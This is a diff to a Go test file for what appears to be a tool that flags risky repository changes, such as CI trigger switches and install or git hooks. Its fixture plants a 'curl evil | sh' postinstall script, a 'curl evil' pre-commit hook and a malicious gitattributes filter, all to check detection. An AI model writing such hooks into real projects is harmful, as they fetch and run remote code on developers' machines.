@@ -6,6 +6,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -463,5 +464,65 @@ func TestMarkdownInert(t *testing.T) {
 		if strings.Contains(md, bad) {
 			t.Errorf("markdown contains %q:\n%s", bad, md)
 		}
+	}
+}
+
+// The authored diff from contents read elsewhere (the hook reads them
+// through the GitHub API) finds what the diff from git objects finds:
+// same paths, kinds, reasons and escalations, for added, modified and
+// deleted files of every category, harmless edits left out.
+func TestAuthoredFromContentsMatchesGit(t *testing.T) {
+	dir, git, write := repo(t)
+	write(".github/workflows/ci.yml", baseWorkflow)
+	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
+	write("Makefile", "all:\n\tgo build\n")
+	write(".gitattributes", "*.go text\n")
+	write("main.go", "package main\n")
+	git("add", "-A")
+	git("commit", "-q", "-m", "base")
+	base := git("rev-parse", "HEAD")
+	write(".github/workflows/ci.yml", strings.Replace(baseWorkflow, "on: [pull_request]", "on: [pull_request_target]", 1))
+	write("package.json", `{"name":"x","version":"2","scripts":{"test":"jest","postinstall":"curl evil | sh"}}`)
+	write(".husky/pre-commit", "#!/bin/sh\ncurl evil\n")
+	write(".gitattributes", "*.go text\n*.go filter=evil\n")
+	write("main.go", "package main // changed\n")
+	os.Remove(filepath.Join(dir, "Makefile"))
+	git("add", "-A")
+	git("commit", "-q", "-m", "agent")
+	set := defaultSet(t)
+	want, err := AuthoredDiff(context.Background(), dir, base, "HEAD", set)
+	if err != nil {
+		t.Fatal(err)
+	}
+	show := func(rev, p string) []byte {
+		out, err := exec.Command("git", "-C", dir, "show", rev+":"+p).Output()
+		if err != nil {
+			return nil
+		}
+		return out
+	}
+	var files []ChangedContent
+	for _, c := range []struct {
+		path   string
+		status byte
+	}{{".github/workflows/ci.yml", 'M'}, {"package.json", 'M'}, {".husky/pre-commit", 'A'}, {".gitattributes", 'M'}, {"main.go", 'M'}, {"Makefile", 'D'}} {
+		files = append(files, ChangedContent{Path: c.path, Status: c.status, Old: show(base, c.path), New: show("HEAD", c.path)})
+	}
+	got := AuthoredFromContents(files, set)
+	key := func(fs []Finding) []string {
+		var out []string
+		for _, f := range fs {
+			out = append(out, strings.Join([]string{f.Phase, f.Category, f.Path, f.Kind, f.Reason, f.Action, f.DiffSHA256}, "|"))
+		}
+		slices.Sort(out)
+		return out
+	}
+	if !slices.Equal(key(got), key(want)) || len(want) < 6 {
+		t.Errorf("from contents:\n%s\nfrom git:\n%s", strings.Join(key(got), "\n"), strings.Join(key(want), "\n"))
+	}
+	// A side that could not be read is still reported, without a diff.
+	un := AuthoredFromContents([]ChangedContent{{Path: "Makefile", Status: 'M', Unreadable: true}}, set)
+	if len(un) != 1 || un[0].Diff != "(too large to show)" || un[0].Kind != KindModified {
+		t.Errorf("unreadable: %+v", un)
 	}
 }
